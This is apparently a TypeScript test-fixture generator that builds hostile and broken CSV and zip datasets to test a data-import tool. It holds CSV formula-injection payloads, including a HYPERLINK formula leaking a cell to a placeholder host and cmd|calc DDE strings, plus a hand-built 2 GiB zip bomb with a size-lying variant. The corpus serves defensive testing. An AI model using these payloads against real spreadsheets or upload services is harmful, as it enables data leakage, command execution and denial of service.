/**
 * npm run hostile-corpus -- --out <dir> [--base data/demo]
 *
 * Hostile and broken datasets, made from a good one (the demo without its reviews; its truth.csv
 * names subjects that are flagged): each case is a
 * folder a unit could send. Generated, never committed (the zip bomb inflates to 2 GiB). The tests
 * in test/unit/hostile/ run every case through the command line and the worker's parse path.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { parseArgs } from 'node:util';
import { isMain } from './main';
import { crc32, deflateRawSync, constants as zlibConstants } from 'node:zlib';
import { zipSync } from 'fflate';
import { parseCsv } from '../lib/data/csv';
import type { InputFile } from '../lib/data/input-files';
import { csvField } from '../lib/data/csv-cells';

const encoder = new TextEncoder();
const TABLES = ['units', 'people', 'ratings', 'disciplines'] as const;
type Table = (typeof TABLES)[number];
type Records = string[][];

/** Ids and notes that a spreadsheet would run as formulas (OWASP's CSV injection examples). */
export const FORMULA_PERSON_ID = '=HYPERLINK("http://example.invalid/?leak="&A1,"Xem")';
export const FORMULA_UNIT_ID = '@SUM(1+1)*cmd|\' /C calc\'!A0';
export const FORMULA_NOTE = '+1+cmd|\' /C calc\'!A0';

export const BOMB_INFLATED_BYTES = 2 ** 31;

function readTables(base: string): Record<Table, Records> {
  const out = {} as Record<Table, Records>;
  for (const t of TABLES) {
    const rows: Records = [];
    parseCsv([readFileSync(path.join(base, `${t}.csv`), 'utf8').replace(/^\uFEFF/, '')], (fields) => void rows.push(fields));
    out[t] = rows;
  }
  return out;
}

function csv(records: Records): Uint8Array {
  return encoder.encode(records.map((r) => r.map(csvField).join(',')).join('\n') + '\n');
}

function files(tables: Record<Table, Records>, replace: Partial<Record<string, Uint8Array>> = {}, extra: InputFile[] = []): InputFile[] {
  const out: InputFile[] = TABLES.map((t) => ({ name: `${t}.csv`, bytes: replace[`${t}.csv`] ?? csv(tables[t]) }));
  return [...out, ...extra];
}

/** A column's values renamed wherever they appear in the named columns of every table. */
function renameIds(tables: Record<Table, Records>, from: string, to: string, columns: readonly string[]): Record<Table, Records> {
  const out = {} as Record<Table, Records>;
  for (const t of TABLES) {
    const [header, ...rows] = tables[t];
    const at = header.map((h, i) => (columns.includes(h) ? i : -1)).filter((i) => i >= 0);
    out[t] = [header, ...rows.map((r) => r.map((v, i) => (at.includes(i) && v === from ? to : v)))];
  }
  return out;
}

/**
 * A zip whose one entry inflates to `inflated` bytes of CSV from ~1 KB per MiB: one deflated MiB,
 * fully flushed (so that it stands alone) and repeated. Written by hand: no library would make it
 * without inflating it first. `declared`: the size its headers claim (a bomb may lie to pass a check).
 */
export function zipBomb(entry: string, inflated = BOMB_INFLATED_BYTES, others: Record<string, Uint8Array> = {}, declared?: number): Uint8Array {
  return addBombEntry(zipSync(Object.fromEntries(Object.entries(others).map(([k, v]) => [k, [v, { level: 6 }]]))), entry, inflated, declared);
}

/** The zip (one fflate or exceljs wrote) with one more entry that inflates to `inflated` bytes. */
export function addBombEntry(zip: Uint8Array, entry: string, inflated = BOMB_INFLATED_BYTES, declared?: number): Uint8Array {
  const MIB = 1 << 20;
  const block = new Uint8Array(MIB).fill(0x61);
  const head = encoder.encode('person_id,year,text\nDV0000001,2023,"');
  block.set(head);
  const copies = Math.ceil(inflated / MIB);
  const part = deflateRawSync(block, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const rest = new Uint8Array(MIB).fill(0x61);
  const restPart = deflateRawSync(rest, { level: 9, finishFlush: zlibConstants.Z_FULL_FLUSH });
  const tail = deflateRawSync(new Uint8Array(0));
  let crc = crc32(block);
  for (let i = 1; i < copies; i++) crc = crc32(rest, crc);
  const data = new Uint8Array(part.length + restPart.length * (copies - 1) + tail.length);
  data.set(part);
  for (let i = 1; i < copies; i++) data.set(restPart, part.length + restPart.length * (i - 1));
  data.set(tail, data.length - tail.length);
  return appendDeflatedEntry(zip, entry, data, declared ?? copies * MIB, crc >>> 0);
}

type ZipField = [offset: number, width: 2 | 4, value: number];

/** A zip header of `fixed` bytes with the given fields, then the entry's name. */
function zipHeader(fixed: number, name: Uint8Array, fields: ZipField[]): Uint8Array {
  const header = new Uint8Array(fixed + name.length);
  const dv = new DataView(header.buffer);
  for (const [offset, width, value] of fields) {
    if (width === 2) dv.setUint16(offset, value, true);
    else dv.setUint32(offset, value, true);
  }
  header.set(name, fixed);
  return header;
}

/** Adds one entry, its data already deflated, to a zip without a comment. */
function appendDeflatedEntry(zip: Uint8Array, name: string, deflated: Uint8Array, size: number, crc: number): Uint8Array {
  const dv = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  const eocd = zip.length - 22;
  const entries = dv.getUint16(eocd + 10, true);
  const cdSize = dv.getUint32(eocd + 12, true);
  const cdOffset = dv.getUint32(eocd + 16, true);
  const nameBytes = encoder.encode(name);
  // Little-endian fields [offset, width in bytes, value]; the rest stays zero. The fields both headers
  // carry, at their offsets in the local header (version 2.0 needed, deflate, CRC, sizes, name length):
  // the central directory's entry inserts "version made by" at offset 4, moving them 2 bytes on.
  const common: ZipField[] = [[4, 2, 20], [8, 2, 8], [14, 4, crc], [18, 4, deflated.length], [22, 4, size], [26, 2, nameBytes.length]];
  const local = zipHeader(30, nameBytes, [[0, 4, 0x04034b50], ...common]);
  const central = zipHeader(46, nameBytes, [
    [0, 4, 0x02014b50],
    [4, 2, 20],
    ...common.map(([offset, width, value]): ZipField => [offset + 2, width, value]),
    // Its offset is that of its local header: where the old central directory began.
    [42, 4, cdOffset]
  ]);
  const out = new Uint8Array(zip.length + local.length + deflated.length + central.length);
  let at = 0;
  const put = (b: Uint8Array) => {
    out.set(b, at);
    at += b.length;
  };
  // The new entry goes where the central directory was; the directory follows, one entry longer.
  put(zip.subarray(0, cdOffset));
  put(local);
  put(deflated);
  const newCd = at;
  put(zip.subarray(cdOffset, cdOffset + cdSize));
  put(central);
  const end = zip.slice(eocd, eocd + 22);
  const ev = new DataView(end.buffer);
  ev.setUint16(8, entries + 1, true);
  ev.setUint16(10, entries + 1, true);
  ev.setUint32(12, cdSize + central.length, true);
  ev.setUint32(16, newCd, true);
  put(end);
  return out;
}

function utf32le(text: string): Uint8Array {
  const cps = [0xfeff, ...Array.from(text, (c) => c.codePointAt(0)!)];
  const out = new Uint8Array(cps.length * 4);
  const dv = new DataView(out.buffer);
  cps.forEach((cp, i) => dv.setUint32(i * 4, cp, true));
  return out;
}

/** A review body of about `chars` characters, in real words (not one word), so that it is text. */
function longReview(chars: number): string {
  const sentence = 'Tôi luôn giữ gìn phẩm chất đạo đức, lối sống trong sạch, hoàn thành nhiệm vụ được giao. ';
  return 'I. Ưu điểm\n' + sentence.repeat(Math.ceil(chars / sentence.length));
}

/** Each hostile case: its name and its files. */
export function hostileCases(base = 'data/demo'): Record<string, InputFile[]> {
  const t = readTables(base);
  const [ratingsHeader, ...ratingsRows] = t.ratings;
  const person = t.people[1][0];
  const reviews = (rows: string[][]) => ({ name: 'reviews.csv', bytes: csv([['person_id', 'year', 'text'], ...rows]) });
  const peopleLines = new TextDecoder().decode(csv(t.people)).split('\n');
  // A column deleted from the header only, as a hand edit leaves it: every row is one field too long.
  const headerWithout = (records: Records, column: string) => [records[0].filter((h) => h !== column), ...records.slice(1)];
  // A person and a unit the checks flag (the demo's truth.csv names them), so that their ids reach the list.
  const truth: Records = [];
  parseCsv([readFileSync(path.join(base, 'truth.csv'), 'utf8')], (fields) => void truth.push(fields));
  const flagged = (type: string) => truth.find((r) => r[2] === type)?.[3] ?? '';
  const formula = renameIds(renameIds(t, flagged('person'), FORMULA_PERSON_ID, ['person_id', 'subject_id', 'head_id']), flagged('unit'), FORMULA_UNIT_ID, [
    'unit_id',
    'parent_id',
    'subject_id'
  ]);
  const reason = formula.disciplines[0].indexOf('reason');
  formula.disciplines = formula.disciplines.map((r, i) => (i === 0 ? r : r.map((v, j) => (j === reason ? FORMULA_NOTE : v))));

  return {
    'zip-bomb': [{ name: 'bo_du_lieu.zip', bytes: zipBomb('reviews.csv', BOMB_INFLATED_BYTES, Object.fromEntries(files(t).map((f) => [f.name, f.bytes]))) }],
    'zip-bomb-lying': [{ name: 'bo_du_lieu.zip', bytes: zipBomb('reviews.csv', BOMB_INFLATED_BYTES, Object.fromEntries(files(t).map((f) => [f.name, f.bytes])), 10 * 1024 * 1024) }],
    'formula-ids': files(formula),
    'long-word': files(t, {}, [reviews([[person, '2023', 'ệ'.repeat(250_000)], [t.people[2][0], '2023', longReview(2000)]])]),
    'big-review': files(t, {}, [reviews([[person, '2023', longReview(2_500_000)]])]),
    'empty-ratings': files(t, { 'ratings.csv': csv([ratingsHeader]) }),
    'missing-column': files(t, { 'ratings.csv': csv(headerWithout(t.ratings, 'subject_id')) }),
    'unterminated-quote': files(t, { 'people.csv': encoder.encode([...peopleLines.slice(0, 11), peopleLines[11].replace(',', ',"'), ...peopleLines.slice(12)].join('\n')) }),
    'million-columns': files(t, {
      'ratings.csv': csv([[...ratingsHeader, ...Array.from({ length: 1_000_000 }, (_, i) => `c${i}`)], ...ratingsRows])
    }),
    utf32: files(t, { 'units.csv': utf32le(new TextDecoder().decode(csv(t.units))) })
  };
}

export function writeHostileCorpus(out: string, base?: string): string[] {
  const cases = hostileCases(base);
  for (const [name, fs] of Object.entries(cases)) {
    for (const f of fs) {
      const file = path.join(out, name, f.name);
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, f.bytes);
    }
  }
  return Object.keys(cases);
}

if (isMain(import.meta.url)) {
  const { values } = parseArgs({ options: { out: { type: 'string' }, base: { type: 'string' } } });
  if (!values.out) {
    process.stderr.write('usage: npm run hostile-corpus -- --out <dir> [--base data/demo]\n');
    process.exit(2);
  }
  for (const name of writeHostileCorpus(values.out, values.base)) process.stderr.write(`${path.join(values.out, name)}\n`);
}
